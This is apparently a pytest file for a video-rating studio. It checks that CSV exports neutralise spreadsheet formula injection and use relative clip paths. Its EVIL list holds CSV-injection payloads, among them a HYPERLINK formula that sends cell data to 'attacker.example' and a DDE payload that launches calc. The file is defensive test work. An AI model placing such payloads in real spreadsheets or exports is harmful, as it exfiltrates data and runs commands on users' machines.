"""Issue 36, finding 6 (safe exports): a narrative like `=HYPERLINK(...)` goes into the VideoAlign
CSV as text, not as a formula a spreadsheet runs, and no export names a clip by its absolute path
(an export from the admin panel leaves the server). The studio's own readers still find the clips."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from engine.core.toolkit.csvsafe import TRIGGERS, restore_cell, safe_cell
from engine.reward.data import load_rating_data
from engine.storage.clips import HistoryService

from support.rating import ADMIN, MODELS, Studio, _clip, _request, full_form, studio, template  # noqa: F401

EVIL = ('=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\t=1+1", "\r=1+1")


def _rated_with_narrative(studio: Studio, narrative: str) -> None:  # noqa: F811
    history = HistoryService(studio.db, studio.settings.media_dir)
    for shade, model in enumerate(MODELS[:2]):
        request = _request(narrative, model)
        history.record_finished(request, None, _clip(request, 40 + shade))
    service = studio.service(gold_share=0, repeat_share=0)
    admin = service.rater_by_name(ADMIN)
    service.build_pairs(admin)
    aki = studio.rater("aki")
    while (served := service.next_pair(aki)) is not None:
        service.submit(aki, served.assignment_id, full_form("A"))


@pytest.mark.parametrize("narrative", EVIL[:1])
def test_videoalign_csv_neutralises_formulas(studio: Studio, narrative: str, tmp_path: Path) -> None:  # noqa: F811
    _rated_with_narrative(studio, narrative)
    service = studio.service()
    out = service.export(service.rater_by_name(ADMIN), "videoalign", tmp_path / "va.csv").path
    with open(out, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)], "a cell a spreadsheet would run as a formula"
    assert "'" + narrative in cells  # kept, as text
    data = load_rating_data([out], media_dir=studio.settings.media_dir)
    assert narrative in {c.prompt for c in data.clips.values()}  # the studio's reader restores it
    assert all(Path(c.video).is_file() for c in data.clips.values())


def test_every_cell_trigger_is_neutralised() -> None:
    for text in EVIL:
        assert not str(safe_cell(text)).startswith(TRIGGERS) and restore_cell(safe_cell(text)) == text
    assert safe_cell(-2) == -2 and safe_cell("a=b") == "a=b" and safe_cell("'=x") == "'=x"


def test_exports_carry_relative_clip_names(studio: Studio, tmp_path: Path) -> None:  # noqa: F811
    _rated_with_narrative(studio, "a girl runs through rain")
    service = studio.service()
    admin = service.rater_by_name(ADMIN)
    media = str(studio.settings.media_dir.resolve())
    for kind, name in (("videoalign", "x.csv"), ("trl", "x.jsonl"), ("pickapic", "x.jsonl"),
                       ("deformations", "d.jsonl")):
        out = service.export(admin, kind, tmp_path / kind / name).path
        text = out.read_text(encoding="utf-8")
        assert media not in text and str(studio.settings.data_dir) not in text, kind
        if kind == "trl":
            row = json.loads(text.splitlines()[0])
            assert not Path(row["chosen"]).is_absolute()
            assert (studio.settings.media_dir / row["chosen"]).is_file()
